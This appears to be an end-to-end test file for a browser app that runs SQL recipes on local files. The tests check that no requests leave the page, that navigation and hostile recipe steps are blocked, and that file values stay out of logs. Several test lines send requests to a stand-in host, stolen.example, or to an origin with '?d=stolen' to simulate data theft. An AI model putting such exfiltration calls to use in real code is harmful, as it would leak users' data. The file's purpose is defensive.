import { csvFile, openApp, openRecipeFiles } from './support/app.ts';
import { hateCrimes } from './support/hate-crimes.ts';
import { test } from './support/elsewhere.ts';
import { hostileSteps } from './support/hostile-sql.ts';
import { startRecordingProxy } from './support/recording-proxy.ts';
import { expect } from './support/test.ts';
import {
  drawnMarks,
  goTo,
  keepRecipe,
  loadFiles,
  openRecipe,
  recipeFile,
  result,
  run,
  settled,
  shownCells,
  sources,
  useSampleData,
} from './support/workbook.ts';

const words = csvFile('words.csv', 'Term,Secret\none,1\ntwo,2\n');
const hate = 'Hate crime, change on the year before';

function recipeOf(id: string, step: string, sql: string): string {
  return `recipe: 1
id: ${id}
version: 1
title: Recipe ${id}
inputs:
  words: { columns: { term: text } }
steps:
  ${step}: ${JSON.stringify(sql)}
tables:
  - { from: ${step}, title: What it gives, columns: { term: label } }
`;
}

test('once the page is in, files, runs and charts make no request at all', async ({ page, requests }) => {
  await openApp(page);
  await settled(page);
  const before = requests.addresses.length;
  expect(before).toBeGreaterThan(5);

  await useSampleData(page);
  await loadFiles(page, hateCrimes('hate.csv'));
  await openRecipe(page, hate);
  await run(page);
  await expect(drawnMarks(page, 'Recorded hate crime by strand')).not.toHaveCount(0);
  const [saved] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Save recipe file' }).click(),
  ]);
  expect(saved.url()).toMatch(/^blob:/);
  await goTo(page, 'Privacy');
  expect(requests.addresses.slice(before)).toEqual([]);
});

test('what a test says of requests would be wrong if they could go unseen', async ({ browser, baseURL }) => {
  const proxy = await startRecordingProxy(new URL(baseURL ?? '').origin);
  const context = await browser.newContext({ proxy: { server: proxy.address, bypass: '<-loopback>' } });
  const page = await context.newPage();
  // A page without the policy of the app's.
  await page.goto('about:blank');
  await page.setContent(
    '<iframe sandbox="allow-scripts" srcdoc="<img src=http://stolen.example/from-a-frame>"></iframe>',
  );
  await page.evaluate(() => {
    const script = 'fetch("http://stolen.example/from-a-worker").catch(() => postMessage(0))';
    const worker = new Worker(URL.createObjectURL(new Blob([script])));
    return new Promise((resolve) => worker.addEventListener('message', resolve));
  });
  await expect.poll(() => proxy.requests).toContain('http://stolen.example/from-a-frame');
  await expect.poll(() => proxy.requests).toContain('http://stolen.example/from-a-worker');
  await context.close();
  await proxy.close();
});

test('the page and its workers are bound by one policy', async ({ page, elsewhere }) => {
  const workers: string[] = [];
  page.on('worker', (worker) => workers.push(worker.url()));
  const response = await page.goto('./');
  await page.locator('html[data-engine="ready"]').waitFor();
  await settled(page);
  await loadFiles(page, words);

  const policies = page.locator('meta[http-equiv="Content-Security-Policy"]');
  const stated = (await policies.first().getAttribute('content')) ?? '';
  expect(response?.headers()['content-security-policy']).toBe(`${stated}; frame-ancestors 'none'`);
  expect(stated).toContain(`default-src 'none'`);
  expect(stated).not.toMatch(/https?:|\*|'unsafe-eval'/);
  expect(workers.length).toBeGreaterThan(1);
  expect(workers.filter((address) => !address.startsWith('blob:'))).toEqual([]);

  // The page could fetch its own files before, and cannot any more.
  const fetched = (address: string) =>
    page.evaluate(
      (from) =>
        fetch(from).then(
          () => 'answered',
          () => 'refused',
        ),
      address,
    );
  expect(await fetched('./index.html')).toBe('refused');
  expect(await fetched(`${elsewhere.origin}/?d=stolen`)).toBe('refused');
});

test('nothing takes the page to another address', async ({ page, elsewhere }) => {
  await openApp(page);
  await loadFiles(page, words);
  const ways: Readonly<Record<string, string>> = {
    'an address': `location.href = address`,
    'an address in place': `location.replace(address)`,
    'a link': `const link = document.createElement('a'); link.href = address; document.body.append(link); link.click()`,
    'a refresh': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + address;
      document.head.append(meta)`,
  };
  for (const [name, leave] of Object.entries(ways)) {
    const outcome: unknown = await page.evaluate(`new Promise((resolve) => {
      navigation.addEventListener('navigateerror', () => resolve('cancelled'), { once: true });
      const address = '${elsewhere.origin}/?d=stolen';
      ${leave};
    })`);
    expect(outcome, name).toBe('cancelled');
    await expect(sources(page), name).toHaveCount(1);
  }
});

test('a hostile recipe ends in an alert that names its step, and reaches nothing', async ({ page, elsewhere }) => {
  await openApp(page);
  await loadFiles(page, words);
  const steps = Object.entries(hostileSteps(elsewhere.origin));
  const ids = steps.map(([step]) => step.replaceAll('_', '-'));
  const book = steps.map(([step, sql], i) => recipeOf(ids[i] ?? '', step, sql)).join('---\n');
  await goTo(page, 'Recipes');
  await openRecipeFiles(page, recipeFile('book.recipe.yaml', book));
  await expect(page.getByRole('button', { name: 'Keep recipe' })).toHaveCount(steps.length);

  for (const [i, [step]] of steps.entries()) {
    await page
      .getByRole('region', { name: `Read before you keep it: Recipe ${ids[i] ?? ''}`, exact: true })
      .getByRole('button', { name: 'Keep recipe' })
      .click();
    await run(page);
    await expect.soft(page.getByRole('alert'), step).toContainText(`The recipe failed at step ${step}:`);
    await expect.soft(result(page), step).toHaveCount(0);
    await goTo(page, 'Recipes');
  }

  await keepRecipe(page, recipeFile('honest.recipe.yaml', recipeOf('honest', 'shown', 'SELECT term FROM words')));
  await run(page);
  await expect(result(page)).toBeVisible();
  expect((await shownCells(page, 'What it gives')).map(([cell]) => cell?.text)).toEqual(['one', 'two']);
});

test('a recipe that asks what else there is is refused before it runs', async ({ page }) => {
  await openApp(page);
  await loadFiles(page, words, csvFile('others.csv', 'Name\nNobody\n'));
  const sql = `SELECT table_name || '.' || column_name AS term FROM duckdb_columns() WHERE NOT internal ORDER BY term`;
  await keepRecipe(page, recipeFile('curious.recipe.yaml', recipeOf('curious', 'seen', sql)));
  await run(page);
  await expect(page.getByRole('alert')).toContainText('The recipe failed at step seen: “duckdb_columns” is refused');
  await expect(result(page)).toHaveCount(0);
});

test('no value of a file is written to the browser’s log', async ({ page }) => {
  const logged: string[] = [];
  page.on('console', (message) => logged.push(message.text()));
  await openApp(page);
  await loadFiles(page, csvFile('words.csv', 'Term\nA. Person of this name\n'));
  const sql = `SELECT CAST(term AS DATE)::VARCHAR AS term FROM words`;
  await keepRecipe(page, recipeFile('quoting.recipe.yaml', recipeOf('quoting', 'quotes', sql)));
  await run(page);
  await expect(page.getByRole('alert')).toContainText('The recipe failed at step quotes:');
  expect(logged.filter((text) => text.includes('A. Person'))).toEqual([]);
});
